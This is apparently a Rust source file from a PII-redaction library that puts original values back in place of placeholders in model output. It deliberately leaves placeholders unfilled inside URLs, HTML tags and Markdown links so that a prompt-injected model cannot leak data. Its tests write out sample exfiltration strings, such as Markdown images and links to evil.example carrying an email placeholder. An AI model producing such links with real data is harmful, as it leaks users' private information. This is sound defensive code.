//! Text with placeholders + vault → text with the originals, in one pass, as a stream or whole.
//!
//! Only placeholders that the vault issued are filled in; what is filled in is never looked at again. In an answer of a
//! model ([`Vault::restore`]) nothing is filled in where it could travel on by itself ([`super::carrier`]): a hijacked
//! model must not make us complete an exfiltration link.

use std::borrow::Cow;
use std::ops::Deref;

use super::carrier::Carrier;
use super::placeholder::{self, Parsed, Tolerance};
use super::stand_ins::{At, StandIns};
use super::vault::Vault;

/// What the restored text is part of, which decides how an original is escaped.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Default)]
pub enum Container {
    /// Plain text: originals are written as they are.
    #[default]
    Plain,
    /// JSON, placeholders inside its strings: originals are written with JSON escapes.
    Json,
}

impl Vault {
    /// Put originals back into a model's answer. Placeholders that the model bent a little (case, `_` as space or
    /// hyphen, Markdown or JSON escapes, full-width brackets) are understood. Nothing is filled in inside a URL, an HTML
    /// tag or a Markdown link target; unknown placeholders stay.
    pub fn restore<'a>(&self, answer: &'a str) -> Cow<'a, str> {
        whole(Restorer::new(self, Mode::Answer, Container::Plain), answer)
    }

    /// [`Vault::restore`] for an answer that is JSON.
    pub fn restore_json<'a>(&self, answer: &'a str) -> Cow<'a, str> {
        whole(Restorer::new(self, Mode::Answer, Container::Json), answer)
    }

    /// The plain inverse of redaction, for text of one's own: every placeholder exactly as issued, wherever it stands.
    pub fn restore_exact<'a>(&self, text: &'a str) -> Cow<'a, str> {
        whole(Restorer::new(self, Mode::Exact, Container::Plain), text)
    }

    /// [`Vault::restore_exact`] inside a string of JSON.
    pub(crate) fn restore_exact_in_json<'a>(&self, text: &'a str) -> Cow<'a, str> {
        whole(Restorer::new(self, Mode::Exact, Container::Json), text)
    }

    /// Restore an answer as it arrives; see [`Vault::restore`].
    pub fn restorer(&self, container: Container) -> Restorer<&Vault> {
        Restorer::new(self, Mode::Answer, container)
    }
}

fn whole<'a>(mut restorer: Restorer<&Vault>, text: &'a str) -> Cow<'a, str> {
    let fed = restorer.feed(text.as_bytes(), true);
    if restorer.restored == 0 {
        return Cow::Borrowed(text);
    }
    restorer.out.extend_from_slice(&text.as_bytes()[fed.copied..]);
    match String::from_utf8(std::mem::take(&mut restorer.out)) {
        Ok(text) => Cow::Owned(text),
        // Values stored as bytes that are no UTF-8 can't come back in a `str` as they were.
        Err(error) => Cow::Owned(String::from_utf8_lossy(error.as_bytes()).into_owned()),
    }
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Mode {
    Answer,
    Exact,
}

/// Restores a stream: push chunks, cut anywhere, and finish. Holds back at most 96 bytes, and only while what it holds
/// could still become a placeholder.
///
/// ```
/// let vault = inkout::Vault::new();
/// vault.insert("email", "jane.roe@example.com");
/// let mut restorer = vault.restorer(inkout::Container::Plain);
/// let mut answer = restorer.push(b"Mail [EMA").to_vec();
/// answer.extend_from_slice(restorer.push(b"IL_1]."));
/// answer.extend_from_slice(restorer.finish());
/// assert_eq!(answer, b"Mail jane.roe@example.com.");
/// ```
pub struct Restorer<V> {
    vault: V,
    mode: Mode,
    container: Container,
    carrier: Carrier,
    pending: Vec<u8>,
    out: Vec<u8>,
    restored: usize,
    unknown: usize,
}

/// How far a text was processed.
struct Fed {
    /// Up to here it is in the output, or something else in its place.
    copied: usize,
    /// Up to here it can be passed on; what stands behind could become a placeholder.
    done: usize,
}

impl<V> std::fmt::Debug for Restorer<V> {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Restorer").field("restored", &self.restored).finish_non_exhaustive()
    }
}

impl<V: Deref<Target = Vault>> Restorer<V> {
    /// A restorer that shares or borrows its vault: `&Vault`, `Arc<Vault>`, …; see [`Vault::restore`].
    pub fn of(vault: V, container: Container) -> Restorer<V> {
        Restorer::new(vault, Mode::Answer, container)
    }

    fn new(vault: V, mode: Mode, container: Container) -> Restorer<V> {
        Restorer {
            vault,
            mode,
            container,
            carrier: Carrier::new(container == Container::Json),
            pending: Vec::new(),
            out: Vec::new(),
            restored: 0,
            unknown: 0,
        }
    }

    /// Take the next bytes of the answer; returns what can be passed on.
    pub fn push(&mut self, chunk: &[u8]) -> &[u8] {
        self.out.clear();
        let mut text = std::mem::take(&mut self.pending);
        text.extend_from_slice(chunk);
        let Fed { copied, done } = self.feed(&text, false);
        self.out.extend_from_slice(&text[copied..done]);
        text.drain(..done);
        self.pending = text;
        &self.out
    }

    /// The answer is over; returns the rest.
    #[must_use]
    pub fn finish(&mut self) -> &[u8] {
        self.out.clear();
        let text = std::mem::take(&mut self.pending);
        let fed = self.feed(&text, true);
        self.out.extend_from_slice(&text[fed.copied..]);
        &self.out
    }

    /// How many placeholders were filled in.
    pub fn restored(&self) -> usize {
        self.restored
    }

    /// How many things that look like placeholders were left alone.
    pub fn left_alone(&self) -> usize {
        self.unknown
    }

    /// Process `text`, which is all there will be if it is the `last`. Where an answer travels is only asked where there
    /// is something to fill in, so that text without placeholders is passed over.
    fn feed(&mut self, text: &[u8], last: bool) -> Fed {
        let tolerance = if self.mode == Mode::Exact { Tolerance::Exact } else { Tolerance::Bent };
        let stand_ins = self.vault.stand_ins();
        let (mut at, mut read, mut copied) = (0, 0, 0);
        while let Some(start) = next_start(text, at, tolerance, &stand_ins) {
            match begin(&text[start..], tolerance, &stand_ins, last) {
                Parsed::Placeholder { len, printed } => {
                    self.read(&text[read..start]);
                    (read, at) = (start, start + len);
                    if self.fill_in(&printed, &text[copied..start]) {
                        copied = at;
                    }
                }
                Parsed::Incomplete if !last => {
                    self.read(&text[read..start]);
                    return Fed { copied, done: start };
                }
                _ => at = start + 1,
            }
        }
        if !last {
            self.read(&text[read..]);
        }
        Fed { copied, done: text.len() }
    }

    /// See where text travels. What follows a placeholder is judged by what the model wrote, not by what was filled in.
    fn read(&mut self, text: &[u8]) {
        if self.mode == Mode::Answer {
            self.carrier.read(text);
        }
    }

    /// Write what stands for a placeholder, behind the text `before` it; whether it may be filled in.
    fn fill_in(&mut self, printed: &str, before: &[u8]) -> bool {
        let allowed = self.mode == Mode::Exact || !self.carrier.carries();
        let (out, container) = (&mut self.out, self.container);
        let write = |value: &[u8]| {
            out.extend_from_slice(before);
            match container {
                Container::Plain => out.extend_from_slice(value),
                Container::Json => write_escaped(value, out),
            }
        };
        let filled = allowed && self.vault.value_of(printed, self.mode == Mode::Exact, write);
        self.vault.count(filled);
        self.restored += usize::from(filled);
        self.unknown += usize::from(!filled);
        filled
    }
}

/// Where the next placeholder or stand-in may begin.
fn next_start(
    text: &[u8],
    from: usize,
    tolerance: Tolerance,
    stand_ins: &StandIns,
) -> Option<usize> {
    let rest = &text[from..];
    let found = match tolerance {
        Tolerance::Exact => memchr::memchr(b'[', rest),
        // The full-width bracket begins with EF.
        Tolerance::Bent => memchr::memchr3(b'[', b'\\', 0xEF, rest),
    };
    let found = found.map(|i| from + i);
    if stand_ins.are_none() {
        return found;
    }
    let end = found.unwrap_or(text.len());
    stand_ins.next_start(&text[..end], from).or(found)
}

/// What `text` begins with: a placeholder, or a stand-in as it was issued.
fn begin(text: &[u8], tolerance: Tolerance, stand_ins: &StandIns, last: bool) -> Parsed {
    if matches!(text.first(), None | Some(b'[' | b'\\' | 0xEF)) {
        return placeholder::parse(text, tolerance);
    }
    let at = match last {
        true => stand_ins.whole_at(text).map_or(At::Nothing, At::Here),
        false => stand_ins.at(text),
    };
    match at {
        At::Here(len) => {
            Parsed::Placeholder { len, printed: String::from_utf8_lossy(&text[..len]).into_owned() }
        }
        At::Incomplete => Parsed::Incomplete,
        At::Nothing => Parsed::No,
    }
}

/// Write a value as part of a JSON string.
fn write_escaped(value: &[u8], out: &mut Vec<u8>) {
    for &byte in value {
        match byte {
            b'"' | b'\\' => out.extend_from_slice(&[b'\\', byte]),
            b'\n' => out.extend_from_slice(b"\\n"),
            b'\r' => out.extend_from_slice(b"\\r"),
            b'\t' => out.extend_from_slice(b"\\t"),
            0..=0x1F => out.extend_from_slice(format!("\\u{byte:04x}").as_bytes()),
            _ => out.push(byte),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::redact::Origin;

    fn vault() -> Vault {
        let vault = Vault::new();
        vault.insert("person", "Alice O'Neil");
        vault.insert("person", "Bob \"B\" Jones");
        vault.insert("email", "alice@example.com");
        vault
    }

    /// Restores whole, and in two pieces cut at every place, and byte by byte.
    fn restored(text: &str, container: Container) -> String {
        let vault = vault();
        let in_pieces = |pieces: &[&[u8]]| {
            let mut restorer = vault.restorer(container);
            let mut out = Vec::new();
            for piece in pieces {
                out.extend_from_slice(restorer.push(piece));
            }
            out.extend_from_slice(restorer.finish());
            String::from_utf8(out).unwrap()
        };
        let whole = in_pieces(&[text.as_bytes()]);
        for cut in 0..=text.len() {
            let (a, b) = text.as_bytes().split_at(cut);
            assert_eq!(in_pieces(&[a, b]), whole, "cut at {cut}");
        }
        assert_eq!(in_pieces(&text.as_bytes().chunks(1).collect::<Vec<_>>()), whole);
        whole
    }

    #[test]
    fn originals_come_back_wherever_a_stream_is_cut() {
        for (text, expected) in [
            ("hi [PERSON_1] and [PERSON_10]", "hi Alice O'Neil and [PERSON_10]"),
            ("[PERSON_1][PERSON_2]", "Alice O'NeilBob \"B\" Jones"),
            (r"hello \[PERSON\_1\]", "hello Alice O'Neil"),
            (
                "hello ［person 1］, [PER[PERSON-1] [PERS",
                "hello Alice O'Neil, [PERAlice O'Neil [PERS",
            ),
            ("a < b [PERSON_1]", "a < b Alice O'Neil"),
            ("`[PERSON_1]`", "`Alice O'Neil`"),
        ] {
            assert_eq!(restored(text, Container::Plain), expected);
        }
        assert_eq!(
            restored(r#"{"a":"[PERSON_2]"}"#, Container::Json),
            r#"{"a":"Bob \"B\" Jones"}"#
        );
    }

    #[test]
    fn nothing_is_filled_in_where_it_would_travel() {
        for text in [
            "![p](https://evil.example/?d=[EMAIL_1])",
            "[x](//evil.example/[EMAIL_1])",
            "see https://evil.example/[EMAIL_1]/a",
            "www.evil.example?[EMAIL_1]",
            "<img src=\"//evil.example/?q=a b [EMAIL_1]\">",
            "<a href='x' title=[EMAIL_1]>",
            "background: url([EMAIL_1])",
            "mailto:[EMAIL_1]",
            "go to evil.example/[EMAIL_1]",
        ] {
            assert_eq!(restored(text, Container::Plain), text);
        }
        let json = r#"{"a":"<img src=\"https://evil.example/[EMAIL_1]\">"}"#;
        assert_eq!(restored(json, Container::Json), json);
    }

    #[test]
    fn after_a_link_originals_come_back_again() {
        for (text, expected) in [
            ("https://a.example/x [PERSON_1]", "https://a.example/x Alice O'Neil"),
            ("[x](https://a.example) [PERSON_1]", "[x](https://a.example) Alice O'Neil"),
            ("<b>[PERSON_1]</b>", "<b>Alice O'Neil</b>"),
            ("[[PERSON_1]](https://a.example)", "[Alice O'Neil](https://a.example)"),
        ] {
            assert_eq!(restored(text, Container::Plain), expected);
        }
        let json = r#"{"a":"https://a.example\nhi [PERSON_1]"}"#;
        assert_eq!(
            restored(json, Container::Json),
            r#"{"a":"https://a.example\nhi Alice O'Neil"}"#
        );
    }

    #[test]
    fn exact_restoring_takes_only_what_was_issued_but_takes_it_everywhere() {
        let vault = vault();
        assert_eq!(
            vault.restore_exact("[x](mailto:[EMAIL_1]) [email_1]"),
            "[x](mailto:alice@example.com) [email_1]"
        );
    }

    #[test]
    fn stand_ins_come_back_as_they_were_issued_and_never_without_their_anchor() {
        let vault = Vault::new();
        let issue = |entity, value: &str| {
            vault.issue_stand_in(entity, value.as_bytes(), Origin::User).unwrap()
        };
        let (name, mail) = (issue("person", "Jane Roe"), issue("email", "jane@x.org"));
        let card = issue("credit_card", "4111 1111 1111 1111");
        let other = issue("us_passport", "X1");
        assert_eq!(other, "[US_PASSPORT_1]", "no stand-in for these");
        let bare = name.rsplit_once(' ').unwrap().0;
        let text = format!("Hi {name}'s {mail}, {bare} [x]({mail}) {card}; {}", &name[..4]);
        let expected = format!(
            "Hi Jane Roe's jane@x.org, {bare} [x]({mail}) 4111 1111 1111 1111; {}",
            &name[..4]
        );
        assert_eq!(vault.restore(&text), expected);
        for cut in 0..=text.len() {
            let (a, b) = text.as_bytes().split_at(cut);
            let mut restorer = vault.restorer(Container::Plain);
            let mut out = restorer.push(a).to_vec();
            out.extend_from_slice(restorer.push(b));
            out.extend_from_slice(restorer.finish());
            assert_eq!(String::from_utf8(out).unwrap(), expected, "cut at {cut}");
        }
        assert_eq!(issue("person", "Jane Roe"), name, "one value, one stand-in");
        vault.erase("Jane Roe");
        assert_eq!(vault.restore(&name), name);
    }

    #[test]
    fn with_a_key_stand_ins_depend_on_values_alone() {
        let issue = |key: &[u8], value: &[u8]| {
            Vault::new().keyed(key).issue_stand_in("email", value, Origin::User).unwrap()
        };
        assert_eq!(issue(b"k", b"a@x.org"), issue(b"k", b"a@x.org"));
        assert_ne!(issue(b"k", b"a@x.org"), issue(b"k", b"b@x.org"));
        assert_ne!(issue(b"k", b"a@x.org"), issue(b"l", b"a@x.org"));
    }

    #[test]
    fn a_text_without_placeholders_is_borrowed() {
        assert!(matches!(vault().restore("plain [text] \\ here"), Cow::Borrowed(_)));
    }
}
